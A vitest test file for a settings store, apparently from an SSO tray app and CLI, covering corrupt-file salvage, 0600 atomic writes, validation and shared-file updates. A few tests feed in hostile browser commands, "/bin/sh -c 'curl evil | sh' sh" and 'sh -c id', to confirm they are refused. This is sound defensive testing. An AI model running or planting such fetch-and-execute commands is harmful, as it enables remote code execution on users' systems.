// The settings store on real files in a temp folder: defaults, salvage of a
// partly bad file, a corrupt file moved aside with a notice, atomic 0600
// writes, validation, serialised updates, values from a newer version kept, and
// two stores on one file (the app and the CLI) keeping each other's changes.

import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_SETTINGS, type Settings } from '../../../app/shared/api';
import { FileSettingsStore, SETTINGS_FILE_NAME } from '../../../app/core/settings/settings-store';
import { settingsFromJson } from '../../../app/core/settings/settings-validation';

const dirs: string[] = [];
const tempDir = () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'sso-tray-settings-'));
  dirs.push(dir);
  return dir;
};
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});
const NOW = () => Date.parse('2026-01-01T12:00:00Z');
const readJson = (file: string) =>
  JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;

describe('settingsFromJson', () => {
  it('fills missing fields with defaults and keeps valid ones', () => {
    const load = settingsFromJson({ defaultShell: 'fish', notificationLeadMinutes: [5, 30, 5] });
    expect(load?.settings).toEqual({
      ...DEFAULT_SETTINGS,
      defaultShell: 'fish',
      notificationLeadMinutes: [30, 5],
    });
    expect(load?.invalidFields).toEqual([]);
  });

  it('resets only the invalid fields and names them', () => {
    const load = settingsFromJson({
      defaultShell: 'tcsh',
      clipboardClearSeconds: -1,
      includeRegion: false,
      renewal: { enabled: 'yes' },
    });
    expect(load?.settings).toEqual({ ...DEFAULT_SETTINGS, includeRegion: false });
    expect(load?.invalidFields).toEqual(['defaultShell', 'clipboardClearSeconds', 'renewal']);
  });

  it('checks each session’s sign-in choice on its own, ignoring keys a newer version added', () => {
    const load = settingsFromJson({
      sessionSignIn: {
        good: { flow: 'device-code' },
        bad: { flow: 'x' },
        newer: { flow: 'pkce', since: '2027-01-01' },
        notAnObject: 'pkce',
        '': { flow: 'pkce' },
      },
    });
    expect(load?.settings.sessionSignIn).toEqual({
      good: { flow: 'device-code' },
      newer: { flow: 'pkce' },
    });
    expect(load?.invalidFields).toEqual(['sessionSignIn']);
    // All good, one with an extra key: nothing to report.
    expect(
      settingsFromJson({ sessionSignIn: { newer: { flow: 'pkce', since: 1 } } })?.invalidFields,
    ).toEqual([]);
    expect(settingsFromJson({ sessionSignIn: ['pkce'] })).toMatchObject({
      settings: { sessionSignIn: {} },
      invalidFields: ['sessionSignIn'],
    });
  });

  it('is null for JSON that is not an object', () => {
    expect(settingsFromJson([1])).toBeNull();
    expect(settingsFromJson('x')).toBeNull();
    expect(settingsFromJson(null)).toBeNull();
  });
});

describe('FileSettingsStore', () => {
  it('starts with the defaults when there is no file, and creates none until a change', async () => {
    const dir = tempDir();
    const { store, notice } = await FileSettingsStore.open(dir);
    expect(notice).toBeNull();
    expect(store.get()).toEqual(DEFAULT_SETTINGS);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('writes changes atomically, 0600, and reads them back', async () => {
    const dir = tempDir();
    const { store } = await FileSettingsStore.open(dir);
    const next = await store.update({ launchAtLogin: true, mutedSessions: ['a', 'a', 'b'] });
    expect(next).toMatchObject({ launchAtLogin: true, mutedSessions: ['a', 'b'] });
    const file = path.join(dir, SETTINGS_FILE_NAME);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readdirSync(dir)).toEqual([SETTINGS_FILE_NAME]); // no temp files left behind
    const reopened = await FileSettingsStore.open(dir);
    expect(reopened.store.get()).toEqual(next);
    expect(reopened.notice).toBeNull();
  });

  it('creates a missing folder privately on the first write', async () => {
    const dir = path.join(tempDir(), 'nested', 'user-data');
    const { store } = await FileSettingsStore.open(dir);
    await store.update({ includeRegion: false });
    expect(statSync(dir).mode & 0o777).toBe(0o700);
  });

  it('moves a corrupt file aside, says where, and carries on with defaults', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    writeFileSync(file, '{"defaultShell": "fish",');
    const { store, notice } = await FileSettingsStore.open(dir, { now: NOW });
    expect(store.get()).toEqual(DEFAULT_SETTINGS);
    expect(notice).toMatchObject({ code: 'settings-corrupt' });
    expect(notice!.movedTo).toBe(`${file}.corrupt-2026-01-01T12-00-00-000Z`);
    expect(readFileSync(notice!.movedTo!, 'utf8')).toBe('{"defaultShell": "fish",');
    expect(notice!.message).toContain(notice!.movedTo!);
    // The next save writes a clean file in its place.
    await store.update({ defaultShell: 'zsh' });
    expect(readJson(file).defaultShell).toBe('zsh');
  });

  it('treats a non-object file as corrupt', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, SETTINGS_FILE_NAME), '[1, 2]');
    const { notice } = await FileSettingsStore.open(dir, { now: NOW });
    expect(notice?.code).toBe('settings-corrupt');
  });

  it('keeps the good fields of a partly bad file, resets the rest, and keeps a copy', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    const original = JSON.stringify({ defaultShell: 'fish', clipboardClearSeconds: 'soon' });
    writeFileSync(file, `\uFEFF${original}`);
    const { store, notice } = await FileSettingsStore.open(dir, { now: NOW });
    expect(store.get()).toEqual({ ...DEFAULT_SETTINGS, defaultShell: 'fish' });
    expect(notice).toMatchObject({ code: 'settings-invalid-fields' });
    expect(notice!.message).toContain('clipboardClearSeconds');
    expect(readFileSync(notice!.movedTo!, 'utf8')).toContain(original);
  });

  it('reports an unreadable file without crashing or deleting it', async () => {
    const dir = tempDir();
    // A directory where the file should be: unreadable for root too (CI runs as root).
    mkdirSync(path.join(dir, SETTINGS_FILE_NAME, 'inside'), { recursive: true });
    const { store, notice } = await FileSettingsStore.open(dir);
    expect(store.get()).toEqual(DEFAULT_SETTINGS);
    expect(notice).toMatchObject({ code: 'settings-unreadable', movedTo: null });
    expect(notice!.message).toContain('EISDIR');
    expect(readdirSync(path.join(dir, SETTINGS_FILE_NAME))).toEqual(['inside']);
  });

  it('refuses invalid values with a message and keeps the old settings', async () => {
    const dir = tempDir();
    const { store } = await FileSettingsStore.open(dir);
    await expect(
      store.update({ clipboardClearSeconds: 99_999 } as Partial<Settings>),
    ).rejects.toMatchObject({ code: 'invalid-settings' });
    await expect(store.update({ colour: 'red' } as unknown as Partial<Settings>)).rejects.toThrow(
      /cannot be saved/,
    );
    expect(store.get()).toEqual(DEFAULT_SETTINGS);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('keeps fields written by a newer version', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    writeFileSync(file, JSON.stringify({ futureOption: { a: 1 }, defaultShell: 'zsh' }));
    const { store, notice } = await FileSettingsStore.open(dir);
    expect(notice).toBeNull();
    await store.update({ includeRegion: false });
    expect(readJson(file)).toMatchObject({
      futureOption: { a: 1 },
      defaultShell: 'zsh',
      includeRegion: false,
    });
  });

  it('applies concurrent updates one after another, none lost, and tells listeners', async () => {
    const dir = tempDir();
    const { store } = await FileSettingsStore.open(dir);
    const seen: Settings[] = [];
    const stop = store.onChange((s) => seen.push(s));
    await Promise.all([
      store.update({ defaultShell: 'fish' }),
      store.update({ includeRegion: false }),
      store.update({ favourites: ['dev'] }),
    ]);
    expect(store.get()).toMatchObject({
      defaultShell: 'fish',
      includeRegion: false,
      favourites: ['dev'],
    });
    expect(readJson(path.join(dir, SETTINGS_FILE_NAME))).toMatchObject({
      defaultShell: 'fish',
      includeRegion: false,
      favourites: ['dev'],
    });
    expect(seen).toHaveLength(3);
    stop();
    await store.update({ launchAtLogin: true });
    expect(seen).toHaveLength(3);
  });

  it('keeps using a browser command an older version stored, until a choice replaces it', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    writeFileSync(file, JSON.stringify({ browserCommand: 'firefox -P work {url}' }));
    const { store, notice } = await FileSettingsStore.open(dir);
    expect(notice).toBeNull();
    expect(store.browser()).toEqual({
      kind: 'legacy-command',
      commandLine: 'firefox -P work {url}',
    });
    // Not part of what the window gets.
    expect(store.get()).toEqual(DEFAULT_SETTINGS);
    // Other changes keep it.
    await store.update({ includeRegion: false });
    expect(readJson(file).browserCommand).toBe('firefox -P work {url}');
    // A choice from main's picker replaces it, in the file too.
    const chosen = {
      kind: 'installed',
      browser: 'firefox',
      executable: '/usr/bin/firefox',
      profile: 'work',
      label: 'Firefox: work',
    } as const;
    expect(await store.setBrowser(chosen)).toEqual(chosen);
    expect(readJson(file)).toMatchObject({ includeRegion: false, browser: chosen });
    expect(readJson(file)).not.toHaveProperty('browserCommand');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect((await FileSettingsStore.open(dir)).store.browser()).toEqual(chosen);
    // Back to the system browser: nothing stored.
    await store.setBrowser({ kind: 'system' });
    expect(readJson(file)).not.toHaveProperty('browser');
  });

  it('refuses a browser setting it cannot use, resetting it to the system browser with a notice', async () => {
    const dir = tempDir();
    writeFileSync(
      path.join(dir, SETTINGS_FILE_NAME),
      JSON.stringify({ browser: { kind: 'command', commandLine: '/bin/sh -c id' } }),
    );
    const { store, notice } = await FileSettingsStore.open(dir, { now: NOW });
    expect(store.browser()).toEqual({ kind: 'system' });
    expect(notice).toMatchObject({ code: 'settings-invalid-fields' });
    expect(notice!.message).toContain('browser');
    await expect(
      store.setBrowser({ kind: 'program' } as unknown as Parameters<typeof store.setBrowser>[0]),
    ).rejects.toThrow();
    expect(store.browser()).toEqual({ kind: 'system' });
  });

  it('refuses a browser command or choice in an update: only main’s picker sets them', async () => {
    const dir = tempDir();
    const { store } = await FileSettingsStore.open(dir);
    for (const patch of [
      { browserCommand: "/bin/sh -c 'curl evil | sh' sh" },
      { browser: { kind: 'program', executable: '/bin/sh' } },
    ]) {
      await expect(store.update(patch as unknown as Partial<Settings>)).rejects.toMatchObject({
        code: 'invalid-settings',
      });
    }
    expect(store.browser()).toEqual({ kind: 'system' });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('keeps a browser per session next to the default, in the file, and drops one it cannot use', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    const { store } = await FileSettingsStore.open(dir);
    const work = {
      kind: 'installed',
      browser: 'chrome',
      executable: '/usr/bin/google-chrome',
      profile: 'Profile 2',
      label: 'Google Chrome: Work',
    } as const;
    expect(await store.setSessionBrowser('work-sso', work)).toEqual(work);
    expect(store.browser('work-sso')).toEqual(work);
    expect(store.browser('home-sso')).toEqual({ kind: 'system' });
    expect(store.browser()).toEqual({ kind: 'system' });
    // Changing the default keeps the session's own choice, and so do other settings.
    await store.setBrowser({ kind: 'program', executable: '/opt/b/browser' });
    await store.update({ includeRegion: false });
    expect(readJson(file)).toMatchObject({
      browser: { kind: 'program', executable: '/opt/b/browser' },
      sessionBrowsers: { 'work-sso': work },
    });
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const reopened = (await FileSettingsStore.open(dir)).store;
    expect(reopened.browser('work-sso')).toEqual(work);
    expect(reopened.sessionBrowser('home-sso')).toBeNull();
    expect(reopened.browser('home-sso')).toEqual({ kind: 'program', executable: '/opt/b/browser' });
    // Back to the default: the entry goes.
    expect(await store.setSessionBrowser('work-sso', null)).toEqual({
      kind: 'program',
      executable: '/opt/b/browser',
    });
    expect(readJson(file)).not.toHaveProperty('sessionBrowsers');
    // Names of the prototype are not choices.
    expect(store.sessionBrowser('constructor')).toBeNull();

    writeFileSync(
      file,
      JSON.stringify({
        sessionBrowsers: { good: work, bad: { kind: 'command', commandLine: 'sh -c id' } },
      }),
    );
    const { store: salvaged, notice } = await FileSettingsStore.open(dir, { now: NOW });
    expect(salvaged.browser('good')).toEqual(work);
    expect(salvaged.browser('bad')).toEqual({ kind: 'system' });
    expect(notice?.message).toContain('sessionBrowsers');
  });

  it('keeps a sign-in flow per session; a session without one has no entry', async () => {
    const dir = tempDir();
    const { store } = await FileSettingsStore.open(dir);
    const next = await store.update({
      sessionSignIn: { 'work-sso': { flow: 'device-code' }, 'home-sso': {} },
    });
    expect(next.sessionSignIn).toEqual({ 'work-sso': { flow: 'device-code' } });
    await expect(
      store.update({ sessionSignIn: { x: { flow: 'sms' } } } as unknown as Partial<Settings>),
    ).rejects.toMatchObject({ code: 'invalid-settings' });
    const reopened = (await FileSettingsStore.open(dir)).store;
    expect(reopened.get().sessionSignIn).toEqual({ 'work-sso': { flow: 'device-code' } });
  });

  it('keeps a session’s good sign-in choice when another in the file is bad, with a notice', async () => {
    const dir = tempDir();
    writeFileSync(
      path.join(dir, SETTINGS_FILE_NAME),
      JSON.stringify({ sessionSignIn: { good: { flow: 'device-code' }, bad: { flow: 'x' } } }),
    );
    const { store, notice } = await FileSettingsStore.open(dir, { now: NOW });
    expect(store.get().sessionSignIn).toEqual({ good: { flow: 'device-code' } });
    expect(notice?.message).toContain('sessionSignIn');
  });

  it('returns frozen settings, so nobody changes them behind the store', async () => {
    const { store } = await FileSettingsStore.open(tempDir());
    expect(Object.isFrozen(store.get())).toBe(true);
  });
});

describe('two stores on one file, as the app and the CLI have', () => {
  const work = {
    kind: 'installed',
    browser: 'chrome',
    executable: '/usr/bin/google-chrome',
    profile: 'Profile 2',
    label: 'Google Chrome: Work',
  } as const;

  it('each write lands on what the other wrote, unknown fields included', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    writeFileSync(
      file,
      JSON.stringify({ futureOption: { a: 1 }, sessionSignIn: { old: { flow: 'pkce' } } }),
    );
    const app = (await FileSettingsStore.open(dir)).store;
    const cli = (await FileSettingsStore.open(dir)).store;
    const heard: Settings[] = [];
    cli.onChange((settings) => heard.push(settings));

    await app.update({ defaultShell: 'fish' });
    await cli.update({ includeRegion: false });
    expect(cli.get()).toMatchObject({ defaultShell: 'fish', includeRegion: false });
    expect(heard.at(-1)).toBe(cli.get());

    await app.setBrowser({ kind: 'program', executable: '/opt/b/browser' });
    await cli.setSessionSignIn('work-sso', 'device-code');
    await app.setSessionBrowser('home-sso', work);
    await cli.setSessionBrowser('work-sso', work);
    await app.update({ mutedSessions: ['home-sso'] });

    expect(readJson(file)).toEqual({
      ...DEFAULT_SETTINGS,
      futureOption: { a: 1 },
      defaultShell: 'fish',
      includeRegion: false,
      mutedSessions: ['home-sso'],
      sessionSignIn: { old: { flow: 'pkce' }, 'work-sso': { flow: 'device-code' } },
      browser: { kind: 'program', executable: '/opt/b/browser' },
      sessionBrowsers: { 'home-sso': work, 'work-sso': work },
    });
    // Each store holds what it last wrote, the other's changes included.
    expect(app.get().sessionSignIn).toEqual(cli.get().sessionSignIn);
    expect(cli.browser('home-sso')).toEqual(work);
    expect(cli.browser()).toEqual({ kind: 'program', executable: '/opt/b/browser' });
    expect(app.browser('work-sso')).toEqual(work);
  });

  it('one session’s sign-in choice leaves the others as the file has them now', async () => {
    const dir = tempDir();
    const app = (await FileSettingsStore.open(dir)).store;
    const cli = (await FileSettingsStore.open(dir)).store;
    await app.update({ sessionSignIn: { a: { flow: 'pkce' }, b: { flow: 'pkce' } } });
    await cli.setSessionSignIn('c', 'device-code');
    await app.update({ sessionSignIn: { a: { flow: 'device-code' } } });
    const after = await cli.setSessionSignIn('a', null);
    expect(after.sessionSignIn).toEqual({});
    await cli.setSessionSignIn('b', 'pkce');
    expect((await FileSettingsStore.open(dir)).store.get().sessionSignIn).toEqual({
      b: { flow: 'pkce' },
    });
    await expect(cli.setSessionSignIn('', 'pkce')).rejects.toMatchObject({
      code: 'invalid-settings',
    });
  });

  it('starts from the defaults when the file went away, and from its own state when it is damaged', async () => {
    const dir = tempDir();
    const file = path.join(dir, SETTINGS_FILE_NAME);
    const { store } = await FileSettingsStore.open(dir, { now: NOW });
    await store.update({ defaultShell: 'fish', includeRegion: false });
    rmSync(file);
    await store.update({ launchAtLogin: true });
    expect(readJson(file)).toEqual({ ...DEFAULT_SETTINGS, launchAtLogin: true });

    writeFileSync(file, '{"defaultShell": "zsh",');
    // A refused change writes nothing and moves nothing.
    await expect(store.update({ defaultShell: 'tcsh' } as never)).rejects.toThrow(
      /cannot be saved/,
    );
    expect(readFileSync(file, 'utf8')).toBe('{"defaultShell": "zsh",');
    await store.update({ favourites: ['dev'] });
    expect(readJson(file)).toEqual({
      ...DEFAULT_SETTINGS,
      launchAtLogin: true,
      favourites: ['dev'],
    });
    expect(statSync(file).mode & 0o777).toBe(0o600);
    // The damaged bytes are kept next to it, as at open.
    const aside = `${file}.corrupt-2026-01-01T12-00-00-000Z`;
    expect(readFileSync(aside, 'utf8')).toBe('{"defaultShell": "zsh",');
  });
});
